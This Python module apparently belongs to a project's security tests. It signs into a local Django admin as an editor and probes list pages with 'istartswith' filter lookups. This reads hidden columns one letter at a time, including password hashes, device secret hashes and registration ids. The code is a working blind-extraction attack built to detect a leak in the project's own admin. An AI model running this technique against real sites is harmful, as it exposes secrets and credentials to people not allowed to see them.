"""An editor reads what only an audited page shows, letter by letter, through lookups of the lists.

A list of the admin takes any lookup of Django in its query. `question/?text__startswith=T` lists the row or not: that
is one letter. For every list that the editor opens, every path to a secret column (up to two relations away) is asked
twice, with the true beginning and with a wrong one. If the pages differ, the value is read letter by letter, knowing
nothing of it. The faults are the characters that were read.

How it could pass while the product fails, and what closes that:
- the editor is not signed in, or a list cannot be opened: `StaffSession` and the status of each list are checked;
- the row is not in the list, so that no lookup changes anything: each list must show a row;
- the comparison cannot see a difference: the same reader reads the same secret from a planted page, the real list with
  and without its rows;
- a column was renamed: the paths are made from the models of today, and each target must have a path.
"""

import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import urlencode

from attacks.target import StaffSession, require, target

SECRETS = {  # model: columns that no list shows
    "question": ("text", "title"),
    "problemreport": ("text",),
    "reader": ("id",),
    "user": ("password",),
    "device": ("registration_id", "secret_hash"),
}
ALPHABET = (
    " abcdefghiklmnopqrstuvxyzwjđàáảãạăằắẳẵặâầấẩẫậèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵ"
    "0123456789-_.,:?!$+/="
)
ENOUGH = 8  # characters of one secret that prove the point
SENTENCE = "toi bi chong danh"
PREPARE = f"""
import json
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.contrib.auth.hashers import make_password
from content.qa import services as qa
from tests import builders
secrets = {SECRETS!r}
question = builders.a_question(text={SENTENCE!r}, title={SENTENCE!r})
asked = builders.an_answered_question(text={SENTENCE!r})
minh = builders.a_device()
reader = minh.reader
qa.report_problem(asked, reader=reader, kind="outdated", text={SENTENCE!r})
builders.a_delivery(to="", target_kind="device", device=minh)
get_user_model().objects.filter(password="").update(password=make_password("a long password"))
def paths(model, prefix, depth):
    if model._meta.model_name in secrets and prefix:
        yield from ((prefix + column, model, column) for column in secrets[model._meta.model_name])
    if depth:
        for field in model._meta.get_fields():
            if field.is_relation and field.related_model:
                yield from paths(field.related_model, prefix + field.name + "__", depth - 1)
admin.autodiscover()  # a shell loads no URL, which would
found = []
for model, its in admin.site._registry.items():
    own = [(column, model, column) for column in secrets.get(model._meta.model_name, ())]
    for path, holder, column in own + list(paths(model, "", 2)):
        values = model._default_manager.order_by("pk").values_list(path, flat=True)[:500]
        value = next(filter(None, values), None)
        if value:
            found.append((f"/staff/{{model._meta.app_label}}/{{model._meta.model_name}}/", path,
                          f"{{holder._meta.model_name}}.{{column}}", str(value)))
print(json.dumps(found))
"""


@dataclass(frozen=True)
class Lookup:
    """A way to a secret through one list."""

    page: str
    path: str
    column: str
    secret: str


def run() -> tuple[int, str]:
    """(characters that the editor read, what was read where)."""
    with target() as installation:
        lookups = [Lookup(*each) for each in json.loads(installation.manage("shell", "-v0", "-c", PREPARE))]
        editor = installation.staff("editor")
        return _attack(editor, lookups)


def _attack(editor: StaffSession, lookups: list[Lookup]) -> tuple[int, str]:
    opened = {page: rows(editor.get(page).text) for page in {lookup.page for lookup in lookups}}
    readable = {page: found for page, found in opened.items() if found}
    require("/staff/content/question/" in readable, "the editor's list of questions shows no row")
    require("/staff/content/problemreport/" in readable, "the editor's list of problem reports shows no row")
    _control(editor, readable)
    asked, leaks = 0, []
    for lookup in lookups:
        if lookup.page in readable:
            asked += 1
            if shows(editor, lookup)(lookup.secret[:3]) and not shows(editor, lookup)("\u2603"):
                leaks.append(lookup)
    require(asked >= len(SECRETS), "too few ways to a secret were tried")
    read: dict[str, str] = {}
    for lookup in {lookup.column: lookup for lookup in leaks}.values():  # one way to each column
        read[f"{lookup.page}?{lookup.path}"] = read_letters(shows(editor, lookup))
    characters = sum(map(len, read.values()))
    words = "; ".join(f"{way}: «{letters}»" for way, letters in read.items())
    figures = f"{asked} lookups of {len(readable)} lists, {len(leaks)} leak, {characters} characters read"
    return max(characters, len(leaks)), f"{figures}. {words}"


def _control(editor: StaffSession, readable: dict[str, set[str]]) -> None:
    """The reader of letters reads a list that leaks."""
    full = editor.get("/staff/content/question/").text
    empty = re.sub(r"<tr>.*?</tr>", "", full, flags=re.DOTALL)
    require(rows(full) and not rows(empty), "rows of a list are not recognised")

    def planted(beginning: str) -> bool:
        return bool(rows(full if SENTENCE.startswith(beginning) else empty))

    require(read_letters(planted) == SENTENCE[:ENOUGH], "the reader of letters cannot read")


def rows(page: str) -> set[str]:
    """The rows of a list of the admin, by their links."""
    table = re.search(r'<table id="result_list">.*?</table>', page, re.DOTALL)
    return set(re.findall(r'href="(/staff/[^"]+/change/)', table[0])) if table else set()


def shows(editor: StaffSession, lookup: Lookup) -> Callable[[str], bool]:
    """Asks whether the list shows any row whose secret begins so."""

    def ask(beginning: str) -> bool:
        answer = editor.get(f"{lookup.page}?{urlencode({f'{lookup.path}__istartswith': beginning})}")
        return answer.status_code == 200 and bool(rows(answer.text))

    return ask


def read_letters(shown: Callable[[str], bool]) -> str:
    """As many letters as can be read, at most ENOUGH, by asking alone."""
    known = ""
    while len(known) < ENOUGH:
        following = next((sign for sign in ALPHABET if shown(known + sign)), None)
        if following is None:
            break
        known += following
    return known
